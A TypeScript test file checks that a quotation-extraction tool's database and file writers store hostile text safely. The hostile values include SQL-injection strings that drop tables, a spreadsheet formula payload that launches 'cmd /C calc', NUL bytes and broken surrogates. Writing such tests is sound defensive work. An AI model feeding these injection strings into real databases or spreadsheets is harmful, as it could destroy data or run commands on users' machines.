import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { gunzipSync } from 'node:zlib'
import { asyncBufferFromFile, parquetReadObjects } from 'hyparquet'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { run } from '../../src/batch/run.js'
import { articleFrom, extract, type Record } from '../../src/index.js'
import { queryStatements } from '../../src/io/databases/query.js'
import { openAll, openTarget } from '../../src/io/writers/targets.js'
import { makeServer, noServer, type Server } from '../postgres.js'
import { folderWith } from './folder.js'
import { ask } from './open-database.js'

const HOSTILE = [
  `“'); DROP TABLE documents; --,” said Jane O'Hara, "chief" of Robert'); DELETE FROM quotations; --`,
  '“It\u0000 works,” said Jane\u0000 Doe of Acme\u0000 Corporation.',
  'NUL in front: \u0000“Half a pair \ud83d and another \udc00 here,” said Jane Doe, president of Ac\ud800me.',
  '“=HYPERLINK("http://example.org/?x="&A1,"click"),” said Jane Doe. “@SUM(1+1)*cmd|\' /C calc\'!A0,” she added.',
  '=1+1 said “+1,” according to Jane Doe, -founder of ＝Acme.\t\r\n“-2,” said John Roe.',
  '“\\u0000 \\ud800 \\\\u0000 is no NUL,” said Jane Doe.',
  `“Ünïcode 🚀 \u2028 \u202e \ufeff ${'𝒜'.repeat(50)},” said Zoë Łukasiewicz of Ångström.`,
]
const SOURCE = { path: "x'); DROP TABLE sources; --", title: '=cmd|calc\u0000', url: 'https://example.org/\ud800' }
const articles = HOSTILE.map((text, index) => articleFrom(text, { ...SOURCE, id: `=h${index}` }))
const records = articles.map(extract)

const folder = folderWith()
let server: Server | undefined
let databases = [`sqlite:${join(folder, 'o.db')}`]

async function* items() {
  yield* articles
}

beforeAll(async () => {
  if (!noServer) server = await makeServer()
  databases = [...databases, ...(server ? [server.address] : [])]
  const files = [`csv:${folder}/csv`, `parquet:${folder}/pq`, `ndjson:${folder}/o.ndjson.gz`, `json:${folder}/json`]
  const facts = { id: 'r1', startedAt: '2026-01-01T00:00:00Z', inputs: ["'; --\u0000"], program: 'test' }
  const targets = [...databases, ...files, `jsonld:${folder}/ld`]
  const sinks = await openAll(targets.map((target) => () => openTarget(target, facts)))
  const failed: string[] = []
  await run(items(), sinks, (event) => {
    if (event.kind === 'failed') failed.push(event.error.message)
  })
  expect(failed).toEqual([])
})
afterAll(() => server?.remove())

describe(`hostile values do no harm (${noServer ?? 'SQLite, PostgreSQL and files'})`, () => {
  test('in databases, and the text can be restored', async () => {
    for (const target of databases) {
      const rows = await ask(target, ({ db }) =>
        db.selectFrom('documents').select(['id', 'text', 'replaced']).execute(),
      )
      const texts = new Map(rows.map(({ id, text, replaced }) => [id, restored(text, replaced)]))
      for (const { id, text } of records) expect(texts.get(id)).toBe(text)
      const quotations = await ask(target, ({ db }) => db.selectFrom('quotations').select('text').execute())
      expect(quotations.length).toBe(records.flatMap((record) => record.quotations).length)
    }
  })

  test('a quotation longer than PostgreSQL can search is stored all the same', async () => {
    const said = Array.from({ length: 300_000 }, (_, index) => `w${index}`).join(' ')
    const [quotation] = records[0]!.quotations
    const long = { ...records[0]!, id: 'f'.repeat(32), quotations: [{ ...quotation!, text: said }], claims: [] }
    for (const target of databases) {
      const sink = await openTarget(target, { id: 'r2', startedAt: '', inputs: [], program: 'test' })
      await sink.put([long])
      await sink.close({ status: 'finished', documents: 1, failures: 0 })
      const found = await ask(target, (database) =>
        queryStatements(database, { text: 'w77', limit: 5 }).then(({ statements }) => statements),
      )
      expect(found.map((one) => one.said === said)).toEqual([true])
      await ask(target, ({ db }) => db.deleteFrom('documents').where('id', '=', long.id).execute())
      const left = await ask(target, (database) =>
        queryStatements(database, { text: 'w77', limit: 5 }).then(({ statements }) => statements),
      )
      expect(left).toEqual([])
    }
  })

  test('in questions', async () => {
    const words = ['; DROP TABLE quotations; --', '"', '" OR "', 'a* NEAR(b) : ^ - {', '%_\\', '()&|!:*', '\u0000', '']
    for (const target of databases)
      for (const text of words) {
        const asked = { text, speaker: text, organization: text, limit: 5 }
        await expect(
          ask(target, (db) => queryStatements(db, asked).then(({ statements }) => statements)),
          `${target} ${text}`,
        ).resolves.toBeDefined()
      }
  })

  test('names are found whatever their case, and % is a letter', async () => {
    for (const target of databases) {
      const found = (speaker: string) =>
        ask(target, (database) =>
          queryStatements(database, { speaker, limit: 99 }).then(({ statements }) => statements),
        )
      expect((await found('jane doe')).length).toBeGreaterThan(0)
      expect(await found('%')).toEqual([])
    }
  })

  test('in CSV no cell is a formula, and each can be restored', () => {
    for (const table of ['sources', 'statements', 'mentions', 'entities', 'documents']) {
      const cells = csvCells(readFileSync(join(folder, 'csv', `${table}.csv`), 'utf8')).flat()
      expect(cells.filter((cell) => /^[=+@\t\r\n＝＋－＠]|^-(?!\d+$)/u.test(cell))).toEqual([])
    }
    const [, ...rows] = csvCells(readFileSync(join(folder, 'csv', 'sources.csv'), 'utf8'))
    const restoredIds = rows.map(([, , id]) => id!.replace(/^'(?='*[=+\-@\t\r\n＝＋－＠])/u, ''))
    expect(restoredIds).toEqual(articles.map(({ source }) => source.id))
  })

  test('in Parquet they are as in a database', async () => {
    const file = await asyncBufferFromFile(join(folder, 'pq', 'documents.parquet'))
    const rows = (await parquetReadObjects({ file })) as { text: string; replaced: unknown }[]
    expect(rows.map(({ text, replaced }) => restored(text, replaced))).toEqual(HOSTILE)
  })

  test('in NDJSON and JSON-LD they are as they were', () => {
    const lines = gunzipSync(readFileSync(join(folder, 'o.ndjson.gz')))
      .toString()
      .trimEnd()
      .split('\n')
    expect(lines.map((line) => JSON.parse(line) as Record)).toEqual(records)
    const ld = JSON.parse(readFileSync(join(folder, 'ld', 'h1.jsonld'), 'utf8'))
    expect(ld['@graph'][0].articleBody).toBe(HOSTILE[1])
  })
})

/** The text as it was, out of what a database holds. */
const restored = (text: string, replaced: unknown): string => {
  const list = (typeof replaced === 'string' ? JSON.parse(replaced) : replaced) as [number, number][] | null
  const units = text.split('')
  for (const [offset, unit] of list ?? []) units[offset] = String.fromCharCode(unit)
  return units.join('')
}

/** RFC 4180, as any reader of CSV has it. */
const csvCells = (text: string): string[][] => {
  const rows: string[][] = [[]]
  const cell = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n|$)/gy
  for (let found = cell.exec(text); found; found = cell.exec(text)) {
    const [, raw, end] = found
    rows.at(-1)!.push(raw!.startsWith('"') ? raw!.slice(1, -1).replaceAll('""', '"') : raw!)
    if (end === '') break
    if (end !== ',') rows.push([])
  }
  return rows.slice(0, -1)
}
